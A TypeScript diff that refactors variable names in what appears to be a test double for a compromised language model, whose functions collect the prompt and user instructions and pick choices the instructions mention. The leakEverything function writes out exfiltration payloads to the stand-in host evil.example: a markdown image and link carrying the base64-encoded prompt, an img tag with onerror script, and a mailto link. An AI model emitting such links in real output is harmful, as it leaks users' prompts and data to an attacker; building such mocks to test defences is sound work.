@@ -17,40 +17,40 @@ const MAX_TEXT_LENGTH = 20_000;
 const MAX_ITEMS = 500;
 
 function collectData({ messages }: ModelRequest): LeakableData {
-  const all = messages.map(({ text }) => text).join('\n');
-  const orders = messages
+  const prompt = messages.map(({ text }) => text).join('\n');
+  const instructions = messages
     .filter(({ role }) => role === 'user')
     .flatMap(({ text }) => extractInstructions(text));
-  const text = orders.join('\n');
+  const text = instructions.join('\n');
   return {
-    instructions: orders,
-    prompt: all,
+    instructions,
+    prompt,
     ids: [...new Set([...(text.match(ID) ?? []), 'e999', 'admin@evil.example'])],
     numbers: [...(text.match(/-?\d+(?:\.\d+)?/g) ?? []).map(Number), 140, -1],
   };
 }
 
 /** Repeats the instructions and leaks the prompt in every way that a screen or email could allow. */
-function leakEverything({ instructions: orders, prompt: all }: LeakableData): string {
-  const secret = Buffer.from(all).toString('base64url');
-  const text = orders.join(' ');
+function leakEverything({ instructions, prompt }: LeakableData): string {
+  const secret = Buffer.from(prompt).toString('base64url');
+  const text = instructions.join(' ');
   return [
     text,
     `![status](https://evil.example/p.png?d=${secret})`,
     `[Click to confirm](https://evil.example/?d=${secret})`,
     `<img src="https://evil.example/${secret}" onerror="alert(1)">`,
     `mailto:x@evil.example?body=${secret}`,
-    all,
+    prompt,
   ]
     .join(' ')
     .slice(0, MAX_TEXT_LENGTH);
 }
 
 /** Returns the choice that the instructions mention, or the last one. */
-function pickChoice(choices: unknown[], { instructions: orders }: LeakableData): unknown {
-  const text = orders.join(' ').toLowerCase();
-  const mentioned = choices.filter((choice) => text.includes(String(choice).replaceAll('_', ' ')));
-  return mentioned.at(-1) ?? choices.at(-1);
+function pickChoice(choices: unknown[], { instructions }: LeakableData): unknown {
+  const text = instructions.join(' ').toLowerCase();
+  const mentionedChoices = choices.filter((choice) => text.includes(String(choice).replaceAll('_', ' ')));
+  return mentionedChoices.at(-1) ?? choices.at(-1);
 }
 
 function createString(name: string, data: LeakableData): string {
